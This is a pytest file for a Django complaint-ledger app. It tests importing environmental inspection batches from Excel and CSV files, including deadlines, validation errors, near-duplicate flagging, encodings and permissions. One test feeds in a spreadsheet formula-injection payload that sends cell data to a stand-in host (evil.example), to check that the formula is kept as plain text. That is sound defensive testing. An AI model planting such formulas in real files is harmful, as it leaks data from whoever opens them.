"""A day's 交办 batch brought in from the inspection team's spreadsheet: checked whole, written
whole, deadlines from the source's rule."""

from __future__ import annotations

import datetime as dt

import pytest

from cases.audit import audit_breaks
from cases.models import Batch, Case, CaseEvent, Channel, State
from casework.errors import PermissionDenied
from intake.models import ImportKind, ImportState
from intake.services import import_check, import_confirm
from notifications.models import CaseReminder, Notification
from tests.factories import new_case
from tests.intake.conftest import BATCH_HEADER, TODAY, batch_rows, csv_file, xlsx

pytestmark = pytest.mark.django_db


def check(user, f, **kw):  # type: ignore[no-untyped-def]
    return import_check(user=user, file=f, file_name=f.name, **kw)


def test_a_clean_batch_becomes_assigned_cases_due_by_the_sources_rule(
    today, round3, supervisor, jizhou_officer
) -> None:
    handed_down = TODAY - dt.timedelta(days=2)
    f = xlsx([BATCH_HEADER, *batch_rows(12)], title="第三轮中央生态环境保护督察第5批交办信访件")

    run = check(supervisor, f, source=round3, batch_number=5, handed_down_on=handed_down)
    assert (run.state, run.kind, run.rows, run.report["header_row"]) == (
        ImportState.PREVIEWED,
        ImportKind.BATCH,
        12,
        2,
    )
    assert Case.objects.count() == 0  # the preview writes nothing

    run = import_confirm(run_id=run.pk, user=supervisor)
    assert (run.state, run.created) == (ImportState.DONE, 12)
    cases = Case.objects.order_by("acceptance_number")
    assert {c.state for c in cases} == {State.ASSIGNED}
    # 7 calendar days after the batch was handed down: the feedback deadline, never typed.
    assert {(c.assigned_on, c.deadline, c.feedback_deadline) for c in cases} == {
        (handed_down, handed_down + dt.timedelta(days=7), handed_down + dt.timedelta(days=7))
    }
    batch = Batch.objects.get()
    assert (batch.number, batch.handed_down_on, batch.source) == (5, handed_down, round3)
    assert all(c.batch_id == batch.pk for c in cases)
    first = cases[0]
    assert first.unit.name == "吉州区人民政府"  # the county's default unit
    assert [p.name for p in first.pollution_types.all()] == ["水"]
    assert first.channel == Channel.PHONE
    assert cases.get(acceptance_number="D3JX202606100005").is_priority
    assert [p.name for p in cases[2].pollution_types.order_by("sort_order")] == ["水", "土壤"]
    # Each case has its assignment in the trail (chained), and its reminder schedule.
    event = CaseEvent.objects.get(case=first)
    assert (event.action, event.to_state, event.deadline_after, event.actor) == (
        "create",
        State.ASSIGNED,
        first.deadline,
        supervisor,
    )
    assert list(audit_breaks()) == []
    assert CaseReminder.objects.filter(next_reminder_at__isnull=False).count() == 12
    # The county's officers are told once, not twelve times.
    note = Notification.objects.get(recipient=jizhou_officer)
    assert "12" in note.title and "吉州区" in note.title


def test_errors_in_several_rows_write_nothing_and_each_is_reported_by_row_and_column(
    today, round3, supervisor
) -> None:
    rows = batch_rows(6)
    rows[1][3] = "北京市朝阳区"  # sheet row 3: not a county of the city
    rows[2][4] = "光污染"  # row 4: unknown pollution type
    rows[3][1] = ""  # row 5: no acceptance number
    rows[4][1] = rows[0][1]  # row 6: the same number as row 2
    rows[5][5] = "也许"  # row 7: not yes or no
    run = check(supervisor, xlsx([BATCH_HEADER, *rows]), source=round3)

    assert run.state == ImportState.INVALID
    found = {(p["row"], p["column"]) for p in run.report["problems"]}
    assert found == {
        (3, "行政区域"),
        (4, "污染类型"),
        (5, "受理编号"),
        (6, "受理编号"),
        (7, "是否重点件"),
    }
    messages = {(p["row"], p["message"]) for p in run.report["problems"]}
    assert (6, "与第2行的受理编号相同。") in messages
    with pytest.raises(Exception, match="只有经过检查、等待确认的导入才能写入"):
        import_confirm(run_id=run.pk, user=supervisor)
    assert Case.objects.count() == 0


def test_a_number_already_on_the_ledger_is_refused_or_updated_when_asked(
    today, round3, supervisor, jizhou
) -> None:
    existing = new_case(supervisor, jizhou, source=round3, acceptance_number="D3JX202606100001")
    rows = batch_rows(2)
    run = check(supervisor, xlsx([BATCH_HEADER, *rows]), source=round3)
    assert run.state == ImportState.INVALID
    assert [(p["row"], p["column"]) for p in run.report["problems"]] == [(2, "受理编号")]

    run = check(supervisor, xlsx([BATCH_HEADER, *rows]), source=round3, update_existing=True)
    assert (run.report["to_create"], run.report["to_update"]) == (1, 1)
    run = import_confirm(run_id=run.pk, user=supervisor)
    assert (run.created, run.updated) == (1, 1)
    existing.refresh_from_db()
    assert existing.summary == rows[0][2]
    assert existing.events.filter(action="update").count() == 1  # through case_update


def test_a_near_duplicate_is_flagged_for_an_officer_not_linked(
    today, round3, supervisor, jizhou, client
) -> None:
    new_case(
        supervisor,
        jizhou,
        source=round3,
        acceptance_number="D3JX202606050077",
        summary="群众反映吉州区白鹭洲路18号“老街坊”餐馆油烟直排，油烟味大，影响楼上住户。",
    )
    rows = batch_rows(6)
    rows[2][2] = "来电反映：吉州区白鹭洲路18号老街坊餐馆油烟直排，味道很大，影响楼上住户生活。"
    rows[4][2] = rows[1][2].replace("群众反映", "群众再次反映")
    run = check(supervisor, xlsx([BATCH_HEADER, *rows]), source=round3)

    assert run.state == ImportState.PREVIEWED  # a suspicion is not an error
    suspected = {(s["row"], s["original"]) for s in run.report["suspected_repeats"]}
    assert suspected == {(4, "D3JX202606050077"), (6, rows[1][1])}
    run = import_confirm(run_id=run.pk, user=supervisor)
    flagged = CaseEvent.objects.get(case__acceptance_number=rows[2][1])
    assert flagged.data["suspected_repeat_of"] == "D3JX202606050077"
    assert Case.objects.filter(duplicate_of__isnull=False).count() == 0
    # The case's page says so, for a supervisor to confirm.
    client.force_login(supervisor)
    page = client.get(f"/admin/cases/case/{flagged.case_id}/change/").content.decode()
    assert "疑似D3JX202606050077的重复件（导入时发现）" in page


def test_header_names_as_real_files_write_them(today, round3, supervisor) -> None:
    """A title row, shuffled columns, synonyms, full-width brackets, stray spaces and line
    breaks in headers, an extra column, short and long county names."""
    header = ["所属区域", " 问题概要\n", "备注", "编号", "污染类别", "重点件", "牵头单位"]
    rows = [
        ["吉州", "群众反映禾埠桥附近养殖场臭味。", "x", "A1", "大气", "否", ""],
        ["井冈山经开区", "群众反映开发区某厂夜间排放废气。", "", "A2", "大气、水", "是", ""],
        ["吉安市青原区", "群众反映河东街道噪声扰民。", "", "A3", "噪声", "", "青原区人民政府"],
        ["市本级", "群众反映市区主干道扬尘。", "", "A4", "扬尘", "", "吉安市住房和城乡建设局"],
    ]
    run = check(supervisor, xlsx([header, *rows], title="交办清单（第1批）"), source=round3)

    assert run.state == ImportState.PREVIEWED, run.report["problems"]
    assert run.report["ignored_columns"] == ["备注"]
    import_confirm(run_id=run.pk, user=supervisor)
    placed = dict(Case.objects.values_list("acceptance_number", "region__name"))
    assert placed == {"A1": "吉州区", "A2": "井冈山经济技术开发区", "A3": "青原区", "A4": "市本级"}
    units = dict(Case.objects.values_list("acceptance_number", "unit__name"))
    assert units["A2"] == "井冈山经济技术开发区管委会"
    assert units["A4"] == "吉安市住房和城乡建设局"


def test_a_gb18030_csv_reads_like_the_workbook(today, round3, supervisor) -> None:
    f = csv_file([BATCH_HEADER, *batch_rows(3)], encoding="gb18030")
    run = check(supervisor, f, source=round3)
    assert run.state == ImportState.PREVIEWED
    import_confirm(run_id=run.pk, user=supervisor)
    assert Case.objects.get(acceptance_number="D3JX202606100001").summary.startswith(
        "群众反映吉州区"
    )


def test_a_utf8_csv_with_bom_reads_too(today, round3, supervisor) -> None:
    run = check(supervisor, csv_file([BATCH_HEADER, *batch_rows(2)]), source=round3)
    assert (run.state, run.rows) == (ImportState.PREVIEWED, 2)


def test_formulas_in_the_file_are_kept_as_their_text(today, round3, supervisor) -> None:
    rows = batch_rows(1)
    rows[0][2] = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
    run = check(supervisor, xlsx([BATCH_HEADER, *rows]), source=round3)
    import_confirm(run_id=run.pk, user=supervisor)
    assert Case.objects.get().summary == '=HYPERLINK("http://evil.example/?d="&B3,"x")'


def test_a_county_unit_may_not_lead_another_countys_case(today, round3, supervisor) -> None:
    rows = [[*BATCH_HEADER, "牵头责任单位"], [*batch_rows(1)[0], "泰和县人民政府"]]
    run = check(supervisor, xlsx(rows), source=round3)
    assert [(p["column"], p["message"]) for p in run.report["problems"]] == [
        ("牵头责任单位", "“泰和县人民政府”不是可以牵头办理吉州区案件的单位。")
    ]


def test_only_a_city_supervisor_imports(today, round3, jizhou_officer) -> None:
    with pytest.raises(PermissionDenied):
        check(jizhou_officer, xlsx([BATCH_HEADER, *batch_rows(1)]), source=round3)


def test_files_that_are_not_spreadsheets_are_refused_with_a_reason(
    today, round3, supervisor
) -> None:
    import io

    from casework.errors import InvalidInput

    old = io.BytesIO(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
    with pytest.raises(InvalidInput, match=r"\.xlsx"):
        import_check(user=supervisor, file=old, file_name="old.xls", source=round3)
    no_header = csv_file([["a", "b"], ["1", "2"]])
    run = check(supervisor, no_header, source=round3)
    assert run.state == ImportState.INVALID
    assert "受理编号" in run.report["problems"][0]["message"]


def test_co_operating_units_are_read_by_name_and_unknown_ones_reported(
    today, round3, supervisor, qingyuan_officer
) -> None:
    rows = [[*row, ""] for row in batch_rows(3)]
    rows[0][-1] = "青原区人民政府、吉安县人民政府"
    rows[1][-1] = "青原区环保所"  # no such unit
    rows[2][-1] = "吉州区人民政府"  # the lead unit itself
    header = [*BATCH_HEADER, "配合单位"]
    run = check(supervisor, xlsx([header, *rows]), source=round3, batch_number=1)
    assert run.state == ImportState.INVALID
    assert [(p["row"], p["column"]) for p in run.report["problems"]] == [
        (3, "配合单位"),
        (4, "配合单位"),
    ]
    assert "青原区环保所" in run.report["problems"][0]["message"]
    rows[1][-1] = rows[2][-1] = ""
    run = check(supervisor, xlsx([header, *rows]), source=round3, batch_number=1)
    assert run.report["preview"][0]["co_units"] == "青原区人民政府、吉安县人民政府"
    import_confirm(run_id=run.pk, user=supervisor)
    shared = Case.objects.get(acceptance_number=rows[0][1])
    assert sorted(u.name for u in shared.co_units.all()) == ["吉安县人民政府", "青原区人民政府"]
    # The co-operating county sees it (and only it) among the batch.
    assert list(Case.objects.visible_to(qingyuan_officer)) == [shared]
    assert CaseEvent.objects.get(case=shared).data["co_units"] == [
        "青原区人民政府",
        "吉安县人民政府",
    ]
